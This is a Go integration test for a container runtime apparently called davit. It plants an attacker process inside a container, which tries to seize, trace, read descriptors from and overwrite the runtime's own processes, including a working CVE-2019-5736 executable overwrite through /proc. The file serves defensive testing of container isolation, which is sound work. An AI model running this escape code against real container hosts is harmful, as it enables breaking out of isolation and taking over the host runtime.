package integration

import (
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// attack is the test binary as a container's process. Until /stop exists, it looks for processes of
// davit in its pid namespace and tries to get hold of them. It writes its successes to /breach, and
// at the end the number of processes that it met to /met.
func attack() int {
	runtime.LockOSThread() // ptrace is bound to the thread
	breach, err := os.OpenFile("/breach", os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		fmt.Println(err)
		return 1
	}
	os.WriteFile("/up", []byte("up"), 0o644)
	met := map[string]bool{}
	for i := 0; ; i++ {
		entries, err := os.ReadDir("/proc")
		if err != nil {
			fmt.Println(err)
			return 1
		}
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			if comm := commOf(pid); strings.Contains(comm, "davit") || comm == "exe" {
				met[e.Name()] = true
				attackProcess(pid, breach)
			}
		}
		if i%16 == 0 {
			if _, err := os.Stat("/stop"); err == nil {
				os.WriteFile("/met", []byte(strconv.Itoa(len(met))), 0o644)
				return 0
			}
		}
	}
}

func commOf(pid int) string {
	data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
	return strings.TrimSpace(string(data))
}

// attackProcess tries every way into a process of davit's. If that process has called exec in the
// meantime, it is the container's own. So every result is examined.
func attackProcess(pid int, breach io.Writer) {
	dir := fmt.Sprintf("/proc/%d/", pid)
	report := func(format string, args ...any) {
		fmt.Fprintf(breach, "process %d: "+format+"\n", append([]any{pid}, args...)...)
	}
	for _, flags := range []int{unix.O_RDONLY, unix.O_RDWR, unix.O_WRONLY, unix.O_PATH} {
		fd, err := unix.Open(dir+"exe", flags|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		if strings.Contains(to, "davit") {
			report("opened its executable %s with flags %#x", to, flags)
			overwrite(fd, report)
		}
		unix.Close(fd)
	}
	if fd, err := unix.Open(dir+"mem", unix.O_RDWR|unix.O_CLOEXEC, 0); err == nil {
		if comm := commOf(pid); strings.Contains(comm, "davit") {
			report("opened the memory of %s", comm)
		}
		unix.Close(fd)
	}
	for _, link := range []string{"cwd", "root", "exe"} {
		to, err := os.Readlink(dir + link)
		exe, _ := os.Readlink(dir + "exe") // in the middle of an exec, the name is still the old one
		if comm := commOf(pid); err == nil && strings.Contains(comm, "davit") && strings.Contains(exe, "davit") {
			report("read the link %s of %s: %s", link, comm, to)
		}
	}
	// The numbers of the descriptors are not secret, but the files that they lead to are, also in
	// the middle of an exec. The socket to the parent stays open until the exec ends.
	for n := 3; n < 20; n++ {
		to, err := os.Readlink(fmt.Sprintf("%sfd/%d", dir, n))
		if comm := commOf(pid); err == nil && strings.Contains(comm, "davit") && !strings.HasPrefix(to, "socket:") {
			report("read descriptor %d of %s: %s", n, comm, to)
		}
	}
	if pidfd, err := unix.PidfdOpen(pid, 0); err == nil {
		if fd, err := unix.PidfdGetfd(pidfd, 3, 0); err == nil {
			report("took its descriptor 3")
			unix.Close(fd)
		}
		unix.Close(pidfd)
	}
	if err := unix.PtraceSeize(pid); err == nil {
		if comm := commOf(pid); strings.Contains(comm, "davit") {
			report("traces %s", comm)
		}
		unix.PtraceInterrupt(pid)
		var status unix.WaitStatus
		unix.Wait4(pid, &status, unix.WALL, nil)
		unix.PtraceDetach(pid)
	}
}

// overwrite is CVE-2019-5736: it writes to the executable as soon as that no longer runs.
func overwrite(fd int, report func(string, ...any)) {
	for end := time.Now().Add(50 * time.Millisecond); time.Now().Before(end); {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if n, err := unix.Write(w, []byte("#!/bin/sh\n")); err == nil {
			report("overwrote it with %d bytes", n)
		}
		unix.Close(w)
		return
	}
}

// stopAttack ends the attacker of a box. It returns what the attacker got, and how many of davit's
// processes it met.
func (b *box) stopAttack() (breaches string, met int) {
	b.t.Helper()
	mustWrite(b.t, b.path("stop"), "stop")
	if err := awaitFile(b.path("met")); err != nil {
		b.t.Fatal(err)
	}
	data, _ := os.ReadFile(b.path("met"))
	met, _ = strconv.Atoi(string(data))
	data, err := os.ReadFile(b.path("breach"))
	if err != nil {
		b.t.Fatal(err)
	}
	return string(data), met
}

func (b *box) plantAttacker() { b.plant("attacker") }

// plant makes the test binary the bundle's program, in a role of TestMain.
func (b *box) plant(role string) {
	b.t.Helper()
	data, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		b.t.Fatal(err)
	}
	mustWrite(b.t, b.path(role), string(data))
	libraries, _ := exec.Command("ldd", b.path(role)).Output() // this fails for a static binary
	for _, word := range strings.Fields(string(libraries)) {
		if data, err := os.ReadFile(word); err == nil && filepath.IsAbs(word) {
			mustWrite(b.t, b.path(word), string(data))
		}
	}
	b.edit("root.readonly=false", `process.args=["/`+role+`"]`, "process.env+="+roleVariable+"="+role)
}
